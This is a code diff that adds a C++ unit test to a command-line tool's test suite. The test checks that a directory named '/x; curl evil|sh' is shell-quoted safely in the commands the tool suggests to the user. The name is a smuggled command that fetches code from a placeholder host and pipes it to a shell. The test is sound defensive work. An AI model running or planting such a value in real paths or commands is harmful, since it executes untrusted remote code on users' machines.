@@ -52,6 +52,20 @@ TEST_F(Cli, StartsNothingWhereNoGrantIs) {
   EXPECT_THAT(broker_->prompt(), IsEmpty());
 }
 
+TEST_F(Cli, LetsNoDirectoryWriteWhatToDo) {
+  StartBroker();
+  const std::string name = At("/x; curl evil|sh");
+  std::filesystem::create_directory(name);
+  const std::string word = "$'" + At("/x") + R"(\x3b\x20curl\x20evil\x7csh')";
+  EXPECT_THAT(Cowork({"run", "do it", "-C", name}).text,
+              HasSubstr("\n  do    cowork grant add " + word + "\n"));
+  for (const std::string& missing : {name + "/no", name + "/no/no"}) {
+    const std::string typed = word.substr(0, word.size() - 1) + missing.substr(name.size()) + "'";
+    EXPECT_THAT(Cowork({"run", "do it", "-C", missing}).text, HasSubstr("do    ls -ld " + typed));
+  }
+  EXPECT_THAT(Cowork({"grant", "add", name + "/no/no"}).text, HasSubstr("do    ls -ld $'"));
+}
+
 TEST_F(Cli, LetsNoEscapeOfTheModelReachTheTerminal) {
   StartBroker();
   BeginAtATerminal({"run", "do it", "-C", At("/app")});
